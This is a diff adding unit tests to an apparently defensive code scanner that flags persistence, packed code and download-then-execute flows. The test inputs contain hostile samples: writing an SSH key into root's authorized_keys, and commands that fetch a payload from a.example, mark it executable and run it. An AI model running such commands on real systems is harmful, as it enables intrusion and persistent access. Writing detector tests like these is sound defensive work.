@@ -364,3 +364,22 @@ def test_code_on_a_command_line_with_holes_is_a_layer():
 
 def test_a_login_key_that_is_added_is_persistence():
     assert "persist.profile" in signals("open('/root/.ssh/authorized_keys', 'a').write('ssh-rsa AAAA')")
+
+
+def test_a_program_that_is_one_long_text_is_packed():
+    assert "obf.packed" in signals("class K:\n    run = eval\nK.run(" + repr("x" * 3000) + ")")
+    assert "obf.packed" not in signals("TABLE = " + repr("x" * 3000))
+
+
+def test_a_file_below_the_current_folder_is_the_file_that_was_fetched():
+    source = "import os, urllib\nurllib.urlretrieve('https://a.example/x', 'new.exe')\n"
+    assert "net.fetch -> proc.shell" in flows(source + "os.startfile(os.getcwd() + '\\\\new.exe')")
+
+
+def test_a_file_that_one_command_makes_and_another_starts_is_followed():
+    seen = observe(
+        "import os\nos.system('curl https://a.example/x -o /tmp/run')\n"
+        "os.system('chmod +x /tmp/run')\nos.system('/tmp/run')"
+    )
+    lines = [signal.evidence.line for signal in seen.signals]
+    assert (2, 4) in {(lines[flow.source], lines[flow.sink]) for flow in seen.flows}
